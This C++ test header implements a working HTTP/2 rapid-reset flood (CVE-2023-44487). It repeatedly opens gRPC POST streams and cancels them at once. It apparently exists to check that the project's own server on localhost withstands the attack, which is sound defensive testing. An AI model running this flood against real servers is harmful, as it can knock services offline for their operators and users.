// An HTTP/2 client that does what no gRPC client does: it opens a stream with a request's HEADERS
// and resets it at once (RST_STREAM, CANCEL), over and over, on one connection: the rapid-reset
// attack (CVE-2023-44487). nghttp2 speaks the protocol; the flood is this file's.
#pragma once

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <thread>
#include <cstdint>
#include <string>
#include <vector>

namespace specdec::test {

class RapidReset {
 public:
  // Streams of POST `path` (a gRPC method) to 127.0.0.1:`port`, without a token.
  RapidReset(int port, std::string path) : port_(port), path_(std::move(path)) {}

  // Opens and resets streams until `stop`, at most `per_second` of them each second (0: as fast
  // as it can), reconnecting when the server closes the connection. Returns the streams opened
  // and reset (sent to the socket; opened() counts them as they go).
  int64_t run(const std::atomic<bool>& stop, int64_t per_second = 0) {
    int64_t streams = 0;
    const auto started = std::chrono::steady_clock::now();
    while (!stop) {
      if (!connect_once()) {  // refused, or closed before the first frames went out
        disconnect();
        continue;
      }
      while (!stop && alive_) {
        if (per_second > 0) {
          const auto due = started + std::chrono::microseconds(streams * 1000000 / per_second);
          std::this_thread::sleep_until(due);
        }
        for (int i = 0; i < 16 && alive_; ++i) {
          const int32_t id = nghttp2_submit_headers(session_, NGHTTP2_FLAG_NONE, -1, nullptr, headers_.data(),
                                                    headers_.size(), nullptr);
          if (id < 0) {
            alive_ = false;
            break;
          }
          alive_ = nghttp2_session_send(session_) == 0;
          alive_ = alive_ && nghttp2_submit_rst_stream(session_, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL) == 0;
          alive_ = alive_ && nghttp2_session_send(session_) == 0;
          if (alive_) ++streams, ++opened_;
        }
        alive_ = alive_ && nghttp2_session_recv(session_) == 0;  // the server's answers, as they come
      }
      disconnect();
    }
    return streams;
  }

  [[nodiscard]] int64_t opened() const noexcept { return opened_.load(); }

  RapidReset(const RapidReset&) = delete;
  RapidReset& operator=(const RapidReset&) = delete;
  ~RapidReset() { disconnect(); }

 private:
  static nghttp2_nv header(const char* name, const std::string& value) {
    return {reinterpret_cast<uint8_t*>(const_cast<char*>(name)),
            reinterpret_cast<uint8_t*>(const_cast<char*>(value.data())), std::char_traits<char>::length(name),
            value.size(), NGHTTP2_NV_FLAG_NONE};
  }

  bool connect_once() {
    socket_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (socket_ < 0) return false;
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(port_));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    const int one = 1;
    ::setsockopt(socket_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    // A server that stops reading makes a send wait at most this long; then this connection is
    // given up and another made (nothing piles up here, and `stop` is seen).
    const timeval patience{.tv_sec = 0, .tv_usec = 200000};
    ::setsockopt(socket_, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (::connect(socket_, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) {
      disconnect();
      return false;
    }
    nghttp2_session_callbacks* callbacks = nullptr;
    nghttp2_session_callbacks_new(&callbacks);
    nghttp2_session_callbacks_set_send_callback(callbacks, &RapidReset::send);
    nghttp2_session_callbacks_set_recv_callback(callbacks, &RapidReset::receive);
    nghttp2_session_client_new(&session_, callbacks, this);
    nghttp2_session_callbacks_del(callbacks);
    authority_ = "127.0.0.1:" + std::to_string(port_);
    headers_ = {header(":method", kPost), header(":scheme", kHttp), header(":path", path_),
                header(":authority", authority_), header("content-type", kGrpc), header("te", kTrailers)};
    alive_ = nghttp2_submit_settings(session_, NGHTTP2_FLAG_NONE, nullptr, 0) == 0 && nghttp2_session_send(session_) == 0;
    return alive_;
  }

  void disconnect() {
    if (session_ != nullptr) nghttp2_session_del(session_);
    session_ = nullptr;
    if (socket_ >= 0) ::close(socket_);
    socket_ = -1;
    alive_ = false;
  }

  static ssize_t send(nghttp2_session* /*session*/, const uint8_t* data, size_t length, int /*flags*/, void* self) {
    const ssize_t sent = ::send(static_cast<RapidReset*>(self)->socket_, data, length, MSG_NOSIGNAL);
    if (sent < 0) return errno == EINTR ? NGHTTP2_ERR_WOULDBLOCK : NGHTTP2_ERR_CALLBACK_FAILURE;  // EAGAIN: see SO_SNDTIMEO
    return sent;
  }

  static ssize_t receive(nghttp2_session* /*session*/, uint8_t* buffer, size_t length, int /*flags*/, void* self) {
    const ssize_t got = ::recv(static_cast<RapidReset*>(self)->socket_, buffer, length, MSG_DONTWAIT);
    if (got == 0) return NGHTTP2_ERR_EOF;
    if (got < 0) return errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR ? NGHTTP2_ERR_WOULDBLOCK
                                                                                  : NGHTTP2_ERR_CALLBACK_FAILURE;
    return got;
  }

  inline static const std::string kPost = "POST", kHttp = "http", kGrpc = "application/grpc", kTrailers = "trailers";
  int port_;
  std::string path_, authority_;
  std::vector<nghttp2_nv> headers_;
  nghttp2_session* session_ = nullptr;
  int socket_ = -1;
  bool alive_ = false;
  std::atomic<int64_t> opened_ = 0;
};

}  // namespace specdec::test
